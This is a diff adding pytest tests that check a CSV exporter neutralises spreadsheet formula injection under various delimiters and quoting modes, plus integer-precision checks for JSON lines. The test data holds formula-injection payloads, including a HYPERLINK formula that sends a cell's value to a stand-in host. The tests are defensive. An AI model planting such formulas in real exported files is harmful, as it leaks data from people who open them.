@@ -54,6 +54,43 @@ def test_quotes_newlines_and_commas_are_kept_in_a_cell(text: str) -> None:
     assert csv_cell(text) == text
 
 
+@pytest.mark.parametrize("delimiter", [";", "\t", ","])
+@pytest.mark.parametrize(
+    "text",
+    [
+        'Note;=HYPERLINK("http://x.example/?"&A1;"open")',
+        "a,b;=1+1",
+        "a;  +1;@x;-1",
+        'a;"=1+1"',
+        "a;'=1+1",
+        'a;""=1+1',
+        "a\n=1+1",
+        'a\n"=1+1"\n-1',
+        "a\t=1+1",
+        "a;\t=1+1",
+        "a;＝1+1",
+        ";=1",
+    ],
+)
+def test_no_cell_is_a_formula_for_a_reader_that_splits_at_another_character(text: str, delimiter: str) -> None:
+    lines = csv_lines([["1", text, "2"]])
+    # Readers differ in what they make of a quote inside a cell, so it's tried with and without quotes.
+    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+        for row in csv.reader(io.StringIO(lines, newline=""), delimiter=delimiter, quoting=quoting):
+            assert not [cell for cell in row if cell.strip(' \n\r"').startswith(tuple("=+-@＝"))], row
+
+
+@pytest.mark.parametrize("number", [2**53, 7234567890123456789, -(2**63)])
+def test_an_integer_that_others_would_round_is_a_string_in_a_json_line(number: int) -> None:
+    assert json.loads(json_lines([[number] * len(COLUMNS)]))["number"] == str(number)
+    assert csv_cell(str(number)).lstrip("'") == str(number)
+
+
+@pytest.mark.parametrize("number", [0, 7, 2**53 - 1, -(2**53) + 1])
+def test_an_integer_that_is_exact_everywhere_stays_one(number: int) -> None:
+    assert json.loads(json_lines([[number] * len(COLUMNS)]))["number"] == number
+
+
 def test_a_json_line_keeps_every_character_in_ascii() -> None:
     text = '=1+1 red \x1b[31m "q" \\ \x00 \N{LINE SEPARATOR} \N{TOOTH} é\r\n'
     line = json_lines([[text] * len(COLUMNS)])
